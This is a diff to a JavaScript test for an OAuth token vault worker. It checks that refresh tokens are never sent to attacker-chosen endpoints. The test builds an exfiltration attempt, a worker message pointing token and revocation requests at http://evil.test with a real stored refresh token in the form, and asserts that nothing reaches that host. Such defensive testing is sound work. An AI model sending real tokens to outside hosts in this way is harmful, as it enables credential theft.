@@ -135,14 +135,16 @@ describe('the vault', () => {
   test('sends the token where it came from, whatever a script tells it', async () => {
     const elsewhere = [];
     await app.context.route('http://evil.test/**', (route) => { elsewhere.push(route.request().postData()); return route.fulfill({ body: '{}' }); });
-    const answers = await app.run((name) => new Promise((resolve) => {
+    // A script can read in whose place the token is.
+    const { refresh } = JSON.parse((await kept())[name()]);
+    const answers = await app.run(([name, refresh]) => new Promise((resolve) => {
       const worker = new Worker('/gatepass/vault-worker.js', { type: 'module' });
       const endpoints = { token: 'http://evil.test/token', revocation: 'http://evil.test/revoke' };
       const answers = [];
       worker.onmessage = ({ data }) => { answers.push(data.body); if (answers.length === 2) resolve(answers); };
-      worker.postMessage({ number: 1, name, act: 'token', form: 'grant_type=refresh_token&client_id=gatepass-demo&refresh_token=x', endpoints });
+      worker.postMessage({ number: 1, name, act: 'token', form: `grant_type=refresh_token&client_id=gatepass-demo&${new URLSearchParams({ refresh_token: refresh })}`, endpoints });
       worker.postMessage({ number: 2, name, act: 'anything', form: 'token=x&token_type_hint=access_token&client_id=gatepass-demo', endpoints });
-    }), name());
+    }), [name(), refresh]);
     expect(elsewhere).toEqual([]);
     expect(answers.map((body) => refreshTokensIn(body))).toEqual([[], []]);
     expect(JSON.parse(answers[0]).access_token).toBeTruthy();
